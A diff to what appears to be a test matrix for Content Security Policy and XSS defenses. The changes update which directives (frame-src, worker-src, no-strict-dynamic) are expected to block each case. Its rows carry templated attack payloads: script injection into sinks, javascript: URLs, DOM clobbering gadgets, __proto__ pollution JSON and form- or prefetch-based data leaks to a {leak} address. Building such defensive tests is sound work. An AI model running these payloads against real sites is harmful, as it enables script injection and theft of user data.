@@ -454,7 +454,7 @@ const SCRIPT_FILE = { name: 'script.js', type: 'text/javascript', text: '{run}' 
 const BY_MARKUP = ['trusted-types', 'script-src'];
 const BY_CODE = ['trusted-types', 'no-unsafe-eval'];
 const BY_INLINE = ['script-src'];
-const BY_LOADING = ['trusted-types'];
+const BY_LOADING = ['trusted-types', 'no-strict-dynamic'];
 const BY_NOTHING = ['application'];
 const SINKS = [
     ['D01', 'into innerHTML', 'innerHTML', IMG, BY_MARKUP],
@@ -507,7 +507,7 @@ const SINKS = [
         },
     ],
     ['D20', 'into the address of a frame', 'frame', 'javascript:{run}', BY_INLINE],
-    ['D26', 'into document.writeln, a script', 'writeln', '<script>{run}</script>', BY_LOADING],
+    ['D26', 'into document.writeln, a script', 'writeln', '<script>{run}</script>', BY_MARKUP],
     ['D27', 'into a timer that repeats, as a text', 'setInterval', '{run}', BY_CODE],
     ['D28', 'into the constructor of asynchronous functions', 'AsyncFunction', '{run}', BY_CODE],
     ['D29', 'into the constructor of generators', 'GeneratorFunction', '{run}', BY_CODE],
@@ -654,7 +654,7 @@ const ROWS = [
         'manifest-src',
         { dead: 'headless Chromium 153 and 156 fetch no manifests' },
     ],
-    ['E15', 'an object', '<object data="{leak}"></object>', 'object-src'],
+    ['E15', 'an object', '<object data="{leak}"></object>', ['object-src', 'frame-src']],
     ['E16', 'an image of SVG', '<svg><image href="{leak}" /></svg>', 'img-src'],
     [
         'E17',
@@ -673,7 +673,7 @@ const ROWS = [
     ['E26', 'a video', '<video src="{leak}" preload=auto></video>', 'media-src'],
     ['E27', 'a sound', '<audio src="{leak}" preload=auto></audio>', 'media-src'],
     ['E28', 'subtitles', '<video crossorigin><track default src="{leak}" kind=captions></video>', 'media-src'],
-    ['E29', 'something embedded', '<embed src="{leak}">', 'object-src'],
+    ['E29', 'something embedded', '<embed src="{leak}">', ['object-src', 'frame-src']],
     ['E30', 'an image button', '<input type=image src="{leak}">', 'img-src'],
     ['E31', 'the old background attribute', '<table background="{leak}"><td>x</table>', 'img-src'],
     ['E32', 'a stylesheet that imports another one', '<style>@import "{leak}";</style>', 'style-src'],
@@ -769,6 +769,7 @@ const exfiltration_script_ROWS = [
         'a form that is sent to a frame',
         "{let i=document.createElement('iframe'),f=document.createElement('form');i.name='i';f.target='i';f.action='{leak}';document.body.append(i,f);f.submit()}",
         'form-action',
+        { blockedBy: ['form-action', 'frame-src'] },
     ],
     ['E50', 'a font', "new FontFace('f','url({leak})').load()", 'font-src'],
     ['E51', 'a sound', "new Audio('{leak}').load()", 'media-src'],
@@ -808,6 +809,7 @@ const exfiltration_script_ROWS = [
         'a page is loaded beforehand, by rules',
         '{let s=document.createElement(\'script\');s.type=\'speculationrules\';s.textContent=\'{"prefetch":[{"source":"list","urls":["{leak}"]}]}\';document.body.append(s)}',
         'trusted-types',
+        { blockedBy: ['trusted-types', 'script-src'] },
     ],
     [
         'E59',
@@ -917,7 +919,7 @@ const framing_ROWS = [
         'a site that frames the application sends the address of a script',
         'message:script-src',
         '{foreign}script.js',
-        ['frame-ancestors', 'trusted-types'],
+        ['frame-ancestors', 'trusted-types', 'no-strict-dynamic'],
         framing(SAY),
         [MESSAGES, FRAMES],
         { foreignFiles: [framing(SAY), SCRIPT] },
@@ -1242,7 +1244,7 @@ const GADGET_ROWS = [
         'an attribute with an address, from which the application loads a script',
         'gadget:script',
         '<b data-script="{foreign}script.js"></b>',
-        ['encoding', 'trusted-types'],
+        ['encoding', 'trusted-types', 'no-strict-dynamic'],
         [GADGETS],
         { foreignFiles: [policy_bypass_SCRIPT] },
     ],
@@ -1251,7 +1253,7 @@ const GADGET_ROWS = [
         'elements whose names stand in for a variable with the address of a script',
         'gadget:clobber',
         '<a id=settings></a><a id=settings name=address href="{foreign}script.js"></a>',
-        ['encoding', 'trusted-types'],
+        ['encoding', 'trusted-types', 'no-strict-dynamic'],
         ['https://html.spec.whatwg.org/multipage/nav-history-apis.html#named-access-on-the-window-object'],
         { foreignFiles: [policy_bypass_SCRIPT] },
     ],
@@ -1260,7 +1262,7 @@ const GADGET_ROWS = [
         'an image that stands in for document.currentScript, by which bundles find their parts',
         'gadget:current-script',
         '<img name=currentScript src="{foreign}">',
-        ['encoding', 'trusted-types'],
+        ['encoding', 'trusted-types', 'no-strict-dynamic'],
         ['https://github.com/webpack/webpack/security/advisories/GHSA-4vvj-4cpr-p986'],
         { foreignFiles: [{ ...policy_bypass_SCRIPT, name: 'part.js' }] },
     ],
@@ -1316,7 +1318,7 @@ const prototype_pollution_ROWS = [
         '__proto__ in JSON that is merged, read as the address of a script',
         'pollution:merge',
         '{"__proto__":{"address":"{foreign}script.js"}}',
-        ['trusted-types'],
+        ['trusted-types', 'no-strict-dynamic'],
     ],
     [
         'F17',
@@ -1583,14 +1585,14 @@ const uploads_ROWS = [
         'a frame with a page that somebody uploaded',
         { name: 'a.html', type: 'text/html', text: HTML },
         '<iframe src="{app}up/a.html"></iframe>',
-        { class: 'csp-bypass' },
+        { class: 'csp-bypass', blockedBy: ['encoding', 'upload-policy', 'frame-src'] },
     ],
     [
         'C12',
         'an object with an SVG that somebody uploaded',
         { name: 'a.svg', type: 'image/svg+xml', text: SVG },
         '<object data="{app}up/a.svg"></object>',
-        { class: 'csp-bypass' },
+        { class: 'csp-bypass', blockedBy: ['encoding', 'upload-policy', 'object-src'] },
     ],
     ['C13', 'a link to an SVG that somebody uploaded', { name: 'a.svg', type: 'image/svg+xml', text: SVG }],
     [
@@ -1608,14 +1610,14 @@ const uploads_ROWS = [
         'a frame that may run scripts and keeps its origin, so that its sandbox is none',
         { name: 'a.html', type: 'text/html', text: '<script>parent.{run}</script>' },
         '<iframe sandbox="allow-scripts allow-same-origin" src="{app}up/a.html"></iframe>',
-        { class: 'csp-bypass' },
+        { class: 'csp-bypass', blockedBy: ['encoding', 'upload-policy', 'frame-src'] },
     ],
     [
         'C33',
         'an embedded SVG that somebody uploaded',
         { name: 'a.svg', type: 'image/svg+xml', text: SVG },
         '<embed src="{app}up/a.svg">',
-        { class: 'csp-bypass' },
+        { class: 'csp-bypass', blockedBy: ['encoding', 'upload-policy', 'object-src'] },
     ],
     [
         'C34',
@@ -1678,10 +1680,17 @@ const workers_ROWS = [
         'a worker loads a script from another origin',
         'sink:worker-import',
         '{foreign}script.js',
-        ['trusted-types', 'script-src'],
+        ['trusted-types', 'worker-src', 'no-strict-dynamic'],
         { foreignFiles: [{ name: 'script.js', type: 'text/javascript', text: '{run}' }] },
     ],
-    ['D59', 'worker', 'a worker evaluates what it is sent', 'sink:worker-eval', '{run}', workers_BY_CODE],
+    [
+        'D59',
+        'worker',
+        'a worker evaluates what it is sent',
+        'sink:worker-eval',
+        '{run}',
+        ['trusted-types', 'worker-src', 'no-unsafe-eval'],
+    ],
     [
         'F08',
         'worker',
